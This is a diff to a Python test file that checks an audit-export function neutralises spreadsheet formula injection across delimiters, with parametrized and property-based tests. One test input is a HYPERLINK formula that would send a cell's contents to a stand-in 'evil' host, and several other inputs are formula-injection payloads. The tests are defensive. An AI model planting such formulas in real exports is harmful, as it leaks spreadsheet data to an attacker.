@@ -4,6 +4,7 @@ import base64
 import csv
 import io
 import json
+import re
 import subprocess
 import sys
 import zipfile
@@ -12,6 +13,8 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from recorded import AT, audit, call, intent, outcome, serve, spoil_decision, writer
 
 from telemetry.audit.exports import cell, comma_separated, json_lines
@@ -130,8 +133,57 @@ def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
     assert cell(text) == text
 
 
-def test_a_long_run_of_blanks_is_looked_through_once() -> None:
-    assert cell(" " * 1_000_000 + "x") == " " * 1_000_000 + "x"
+@pytest.mark.parametrize("blanks", [" ", ";", "\n;", "'", " \t"], ids=ascii)
+def test_a_long_run_of_blanks_is_looked_through_once(blanks: str) -> None:
+    text = "x" + blanks * 1_000_000 + "x"
+    assert cell(text) == text
+    assert len(cell(text + blanks * 1_000_000 + "=")) >= len(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "guarded"),
+    [
+        ('x;=HYPERLINK("http://evil/?"&A1)', 'x;\'=HYPERLINK("http://evil/?"&A1)'),
+        ("a\t=1+1", "a\t'=1+1"),
+        ("a\n@b", "a\n'@b"),
+        ("a\r\n-1", "a\r'\n'-1"),
+        ("a|+1", "a|'+1"),
+        ('a;"=1"', 'a;\'"=1"'),
+        ("a; \u200b＝1", "a;' \u200b＝1"),
+        (";=1", ";'=1"),
+        ("a;;=1", "a;';'=1"),
+        ("'=1", "''=1"),
+        ("a;'=1", "a;''=1"),
+        ("a;b=1", "a;b=1"),
+        ("a,=1 b - c", "a,=1 b - c"),
+    ],
+    ids=ascii,
+)
+def test_a_formula_within_a_text_is_none_for_whoever_divides_it_there(text: str, guarded: str) -> None:
+    assert cell(text) == guarded
+
+
+def unguarded(cell: str) -> str:
+    """As the guide tells how a text is found again."""
+    from telemetry.audit.exports import BEFORE_A_SIGN, FORMULA
+
+    text = cell[1:] if cell.startswith("'") and FORMULA.match(cell[1:]) else cell
+    return BEFORE_A_SIGN.sub(lambda run: re.sub(r"([;|\t\r\n])'", r"\1", run[0]), text)
+
+
+TEXTS = st.text(st.sampled_from("=+-@;|\t\r\n ,'\"\u200b＝a1"), max_size=12)
+
+
+@given(st.lists(TEXTS, min_size=1, max_size=4))
+@settings(max_examples=300)
+def test_no_reader_finds_a_formula_and_each_text_is_found_again(texts: list[str]) -> None:
+    assert [unguarded(cell(text)) for text in texts] == texts
+    table = io.StringIO(newline="")
+    csv.writer(table, quoting=csv.QUOTE_ALL).writerow([cell(text) for text in texts])
+    for delimiter in ",;\t|":
+        for row in csv.reader(io.StringIO(table.getvalue(), newline=""), delimiter=delimiter):
+            for found in row:
+                assert not found.strip(' \u200b"').startswith(("=", "+", "-", "@", "＝")), (delimiter, found)
 
 
 @pytest.mark.parametrize(
@@ -155,8 +207,8 @@ def test_an_auditor_verifies_a_pack_with_python_alone(
     recorded: Path, selection: Selection, rows: int
 ) -> None:
     code, told = checked(pack(recorded, selection), "--public-key", public_key(recorded))
-    assert (code, f"{rows} rows of" in told, "no findings" in told) == (0, True, True), told
-    assert ("A selection" in told) is not selection.whole
+    assert (code, told.startswith(f"{rows} row"), "no findings" in told) == (0, True, True), told
+    assert ("A selection" in told) is bool(rows and not selection.whole)
 
 
 def test_a_pack_about_one_client_shows_nothing_of_another(recorded: Path) -> None:
